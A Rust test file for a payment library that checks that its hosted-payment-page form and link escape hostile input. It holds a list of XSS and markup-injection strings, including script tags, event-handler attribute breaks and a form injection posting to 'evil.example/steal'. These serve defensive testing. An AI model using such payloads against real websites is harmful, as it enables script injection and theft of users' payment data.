//! The HPP auto-redirect form with hostile values: parsed back by a real HTML5 parser (as a
//! browser would), every value must come out as exactly one hidden input with the exact text
//! given, and nothing in the values may open an element, close the form or add an attribute.

use polypay::paycore::{Environment, HppForm, HppParams};
use scraper::{Html, Selector};
use serde_json::{json, Map, Value};

/// Values that break naive templates: tags, quote breaks, entity look-alikes, comments.
const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "\"><script>alert(\"x\")</script>",
    "' onmouseover='alert(1)' x='",
    "\" autofocus onfocus=\"alert(1)",
    "</form><form action=\"https://evil.example/steal\" method=\"post\">",
    "</button></form><img src=x onerror=alert(1)>",
    "&amp; &lt;b&gt; &#34; &quot; &#x27; & &&",
    "<!-- comment --> ]]> <![CDATA[x]]>",
    "line\nbreak\ttab \u{2028} émoji 💳",
];

fn hostile_params(value: &str) -> Map<String, Value> {
    let params = json!({
        "public_key": "pk_test_hostile",
        "amount": "10.50",
        "currency": "EUR",
        "reference_id": value,
        "description": value,
        "customer": {
            "reference_id": value,
            "email": value,
            "name": value,
            "address": {"city": value, "street": value, "full_address": value},
            "metadata": {value: value},
        },
        "service": value,
        "service_fields": {value: value},
        // A URL cannot hold raw whitespace or control characters (the validator refuses them):
        // the hostile value goes in percent-encoded, as a shop would put it.
        "return_url": format!(
            "https://shop.example/return?next={}",
            percent_encoding::utf8_percent_encode(value, percent_encoding::CONTROLS)
                .to_string()
                .replace(char::is_whitespace, "%20")
        ),
        "locale": value,
        "metadata": {"order": value, value: "key-is-hostile"},
    });
    params.as_object().unwrap().clone()
}

fn form(params: &Map<String, Value>, env: &Environment) -> HppForm {
    HppParams::from_json(params)
        .unwrap_or_else(|e| panic!("{e:?}"))
        .form(env)
        .unwrap()
}

fn select<'a>(doc: &'a Html, css: &str) -> Vec<scraper::ElementRef<'a>> {
    doc.select(&Selector::parse(css).unwrap()).collect()
}

/// Parses `html` and checks that it is exactly `form`: one form, its inputs, one button.
fn assert_parses_back(html: &str, form: &HppForm, label: &str) {
    let doc = Html::parse_document(html);
    let forms = select(&doc, "form");
    assert_eq!(forms.len(), 1, "a value opened or closed a form:\n{html}");
    assert_eq!(forms[0].value().attr("action"), Some(form.action.as_str()));
    assert_eq!(forms[0].value().attr("method"), Some("post"));
    assert_eq!(
        forms[0].value().attrs().count(),
        3,
        "extra form attribute:\n{html}"
    );

    let inputs = select(&doc, "input");
    let parsed: Vec<(String, String)> = inputs
        .iter()
        .map(|i| {
            let el = i.value();
            assert_eq!(el.attr("type"), Some("hidden"));
            assert_eq!(el.attrs().count(), 3, "a value added an attribute:\n{html}");
            (
                el.attr("name").unwrap().to_owned(),
                el.attr("value").unwrap().to_owned(),
            )
        })
        .collect();
    assert_eq!(
        parsed, form.fields,
        "inputs differ from the fields:\n{html}"
    );

    let buttons = select(&doc, "button");
    assert_eq!(buttons.len(), 1);
    assert_eq!(buttons[0].text().collect::<String>(), label);
    // Everything in <body> is the form: no element a value could have smuggled in.
    let others = select(&doc, "body *:not(form):not(input):not(button)");
    assert!(others.is_empty(), "unexpected elements:\n{html}");
    assert!(select(&doc, "script, img, iframe").is_empty());
}

#[test]
fn hostile_values_come_back_exactly_as_hidden_inputs() {
    for value in HOSTILE {
        let params = hostile_params(value);
        let form = form(&params, &Environment::PayCore);
        // Every hostile value is in the form (values and bracketed names).
        assert!(form.fields.iter().any(|(_, v)| v == value));
        assert!(form.fields.iter().any(|(n, _)| n.contains(value)));
        let html = form.to_html("Pay");
        assert!(!html.contains("<script"), "{html}");
        assert!(!html.contains("<img"), "{html}");
        assert_parses_back(&html, &form, "Pay");
    }
}

#[test]
fn hostile_button_label_is_text() {
    let params = hostile_params("order-1");
    let form = form(&params, &Environment::Paymega);
    for label in HOSTILE {
        let html = form.to_html(label);
        assert_parses_back(&html, &form, label);
    }
}

#[test]
fn hostile_custom_base_url_stays_in_the_action() {
    // A custom deployment URL is configuration, but still must not be able to break the form.
    let env = Environment::custom("https://pay.example/x\"><script>alert(1)</script>").unwrap();
    let form = form(&hostile_params("\"'<>&"), &env);
    assert!(form.action.contains("<script>"));
    let html = form.to_html("Pay");
    assert!(!html.contains("<script"), "{html}");
    assert_parses_back(&html, &form, "Pay");
}

#[test]
fn hostile_values_round_trip_through_the_link() {
    for value in HOSTILE {
        let hpp = HppParams::from_json(&hostile_params(value)).unwrap();
        let url = hpp.url(&Environment::PayCore).unwrap();
        let query = url
            .strip_prefix("https://com.paycore.io/hpp/?")
            .expect("HPP address");
        // Nothing that could end the URL or an HTML attribute it is put in stays raw.
        assert!(
            !query.contains(['"', '\'', '<', '>', ' ', '#', '\n']),
            "{query}"
        );
        let decoded: Vec<(String, String)> = form_urlencoded::parse(query.as_bytes())
            .into_owned()
            .collect();
        assert_eq!(decoded, hpp.fields());
    }
}

#[test]
#[should_panic(expected = "inputs differ from the fields")]
fn the_check_catches_an_unescaped_value() {
    // What a naive template would produce: the check above must refuse it.
    let form = HppForm {
        action: "https://com.paycore.io/public-api/payment-invoices/process".into(),
        method: "POST",
        fields: vec![("description".into(), HOSTILE[1].into())],
    };
    let html = format!(
        "<form action=\"{}\" method=\"post\" accept-charset=\"utf-8\">\n  \
         <input type=\"hidden\" name=\"description\" value=\"{}\">\n  \
         <button type=\"submit\">Pay</button>\n</form>\n",
        form.action, form.fields[0].1
    );
    assert_parses_back(&html, &form, "Pay");
}
